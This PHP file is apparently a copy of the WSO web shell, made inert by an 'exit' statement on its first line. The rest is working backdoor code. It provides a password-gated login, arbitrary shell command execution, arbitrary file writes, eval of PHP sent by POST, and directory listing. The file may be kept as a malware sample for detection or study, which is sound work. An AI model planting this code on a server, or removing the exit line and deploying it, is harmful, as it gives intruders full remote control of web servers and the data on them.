<?php exit; /* inert */ 
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$default_action = 'FilesMan';
$default_charset = 'Windows-1251';
function wsoLogin() { die("<pre align=center><form method=post>Password: <input type=password name=pass><input type=submit value='>>'></form></pre>"); }
function WSOsetcookie($k, $v) { $_COOKIE[$k] = $v; setcookie($k, $v); }
if (isset($_POST['pass']) && (md5($_POST['pass']) == $auth_pass)) WSOsetcookie(md5($_SERVER['HTTP_HOST']), $auth_pass);
if (!isset($_COOKIE[md5($_SERVER['HTTP_HOST'])]) || ($_COOKIE[md5($_SERVER['HTTP_HOST'])] != $auth_pass)) wsoLogin();
function wsoEx($in) {
    $out = '';
    if (function_exists('exec')) { @exec($in, $out); $out = @join("\n", $out); }
    elseif (function_exists('shell_exec')) { $out = shell_exec($in); }
    elseif (is_resource($f = @popen($in, "r"))) { while (!@feof($f)) $out .= fread($f, 1024); pclose($f); }
    return $out;
}
function actionConsole() { echo '<pre>' . htmlspecialchars(wsoEx($_POST['p1'])) . '</pre>'; }
function actionFilesTools() { if ($_POST['p2'] == 'edit') { $fp = @fopen($_POST['p1'], 'w'); @fwrite($fp, substr($_POST['p3'], 1)); @fclose($fp); } }
function actionPhp() { eval($_POST['p1']); }
function actionFilesMan() { foreach (@scandir($_POST['c'] ? $_POST['c'] : '.') as $f) echo htmlspecialchars($f) . '<br>'; }
if (empty($_POST['a'])) $_POST['a'] = $default_action;
if (!empty($_POST['a']) && function_exists('action' . $_POST['a']))
    call_user_func('action' . $_POST['a']);
